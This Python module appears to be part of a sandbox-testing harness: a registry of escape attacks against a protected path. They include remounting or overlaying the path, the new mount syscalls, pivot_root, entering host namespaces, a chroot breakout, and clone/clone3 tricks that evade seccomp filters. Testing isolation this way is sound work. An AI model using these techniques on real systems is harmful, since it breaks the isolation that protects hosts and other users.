"""Changing what is seen at a protected path, and leaving the namespaces. The controls run as root."""

from __future__ import annotations

import contextlib
import os

from . import system
from .registry import Scene, attack
from .system import NUMBERS, mount, system_call, umount, unshare

_BIND_RW = system.MS_REMOUNT | system.MS_BIND


def _write(path: str = "protected/inner") -> object:
    with contextlib.suppress(OSError), open(path, "w", encoding="utf-8") as f:
        f.write("pwn")
    return None


def _evil() -> str:
    os.makedirs("evil", exist_ok=True)
    _write("evil/inner")
    return "evil"


@attack("mounts", "unmount the protection", control="root")
def unmount(scene: Scene) -> object:
    umount("protected")
    return _write(f"{scene['root']}/protected/inner")


@attack("mounts", "mount it writable again", control="root")
def remount(scene: Scene) -> object:
    mount("none", "protected", "", _BIND_RW)
    return _write()


@attack("mounts", "mount a folder over it", control="root")
def bind_over(scene: Scene) -> object:
    mount(_evil(), "protected", "", system.MS_BIND)
    return None


@attack("mounts", "mount an empty file system over it", control="root")
def tmpfs_over(scene: Scene) -> object:
    mount("tmpfs", "protected", "tmpfs", 0)
    return None


@attack("mounts", "mount an overlay over it", control="root")
def overlay_over(scene: Scene) -> object:
    mount("tmpfs", "protected", "tmpfs", 0)
    for name in ("upper", "work"):
        os.makedirs(f"protected/{name}")
    mount("overlay", "protected", "overlay", 0, f"lowerdir={_evil()},upperdir=protected/upper,workdir=protected/work")
    return None


@attack("mounts", "mount by the new calls", control="root")
def new_calls(scene: Scene) -> object:
    """fsopen, fsmount, move_mount: a filter that knows mount(2) only would miss them."""
    context = system_call(NUMBERS["fsopen"], b"tmpfs", 0)
    system_call(NUMBERS["fsconfig"], context, 6, None, None, 0)
    tree = system_call(NUMBERS["fsmount"], context, 0, 0)
    system_call(NUMBERS["move_mount"], tree, b"", -100, b"protected", 4)
    return None


@attack("mounts", "clear the read-only attribute", control="root")
def attributes(scene: Scene) -> object:
    record = (0).to_bytes(8, "little") + (1).to_bytes(8, "little") + bytes(16)
    system_call(NUMBERS["mount_setattr"], -100, b"protected", 0, record, 32)
    return _write()


@attack("mounts", "clone the tree and clear the attribute", control="root")
def clone_tree(scene: Scene) -> object:
    tree = system_call(NUMBERS["open_tree"], -100, b"protected", 1)
    record = (0).to_bytes(8, "little") + (1).to_bytes(8, "little") + bytes(16)
    system_call(NUMBERS["mount_setattr"], tree, b"", 0x1000, record, 32)
    return _write(f"/proc/self/fd/{tree}/inner")


@attack("mounts", "detach everything above by pivot_root", control="root")
def pivot(scene: Scene) -> object:
    """A new root, with a namespace of its own if one can be had."""
    with contextlib.suppress(OSError):
        unshare(system.CLONE_NEWNS)
    mount("tmpfs", _evil(), "tmpfs", 0)
    os.mkdir("evil/old")
    system_call(NUMBERS["pivot_root"], b"evil", b"evil/old")
    return None


def _namespaces(flags: int) -> int:
    unshare(flags)
    return flags


@attack("namespaces", "make a user namespace")
def user_namespace(scene: Scene) -> object:
    return _namespaces(system.CLONE_NEWUSER)


@attack("namespaces", "make a mount namespace", control="root")
def mount_namespace(scene: Scene) -> object:
    return _namespaces(system.CLONE_NEWNS)


@attack("namespaces", "make a network namespace", control="root")
def network_namespace(scene: Scene) -> object:
    return _namespaces(system.CLONE_NEWNET)


@attack("namespaces", "undo mounts in a namespace of one's own")
def nested(scene: Scene) -> object:
    unshare(system.CLONE_NEWUSER | system.CLONE_NEWNS)
    with contextlib.suppress(OSError):
        umount("protected")
    return _write()


@attack("namespaces", "make a user namespace by clone")
def by_clone(scene: Scene) -> object:
    """The upper half of the flags' register is set too: the kernel ignores it, a filter must as well."""
    child = system_call(NUMBERS["clone"], system.CLONE_NEWUSER | 1 << 40 | 17, 0, 0, 0, 0)
    if child == 0:
        system.stay()
    return child


@attack("namespaces", "make a user namespace by clone3")
def by_clone3(scene: Scene) -> object:
    """Its flags are in memory, where a filter cannot see them."""
    numbers = [system.CLONE_NEWUSER, 0, 0, 0, 17, 0, 0, 0]
    child = system_call(NUMBERS["clone3"], b"".join(n.to_bytes(8, "little") for n in numbers), 64)
    if child == 0:
        system.stay()
    return child


@attack("namespaces", "enter the namespaces of process 1", control="root")
def enter(scene: Scene) -> object:
    """Those of the victim too. In a control without a namespace of its own, both are the host's."""
    entered = False
    for pid in (scene["victim"], 1):
        for name, kind in (("user", system.CLONE_NEWUSER), ("mnt", system.CLONE_NEWNS), ("net", system.CLONE_NEWNET)):
            with contextlib.suppress(OSError):
                system_call(NUMBERS["setns"], os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY), kind)
                entered = True
    if not entered:
        raise OSError("no namespace can be entered")
    return entered


@attack("files", "climb out of the root by chroot", control="root")
def climb(scene: Scene) -> object:
    """A folder that stays open outside of the new root leads to the real one."""
    os.makedirs("cell", exist_ok=True)
    open_outside = os.open("/", os.O_RDONLY)
    with contextlib.suppress(OSError):
        os.chroot("cell")
    os.fchdir(open_outside)
    for _ in range(64):
        os.chdir("..")
    with contextlib.suppress(OSError):
        os.chroot(".")
    with open(f".{scene['outside']}/secret", encoding="utf-8") as f:
        print(f.read())
    return None
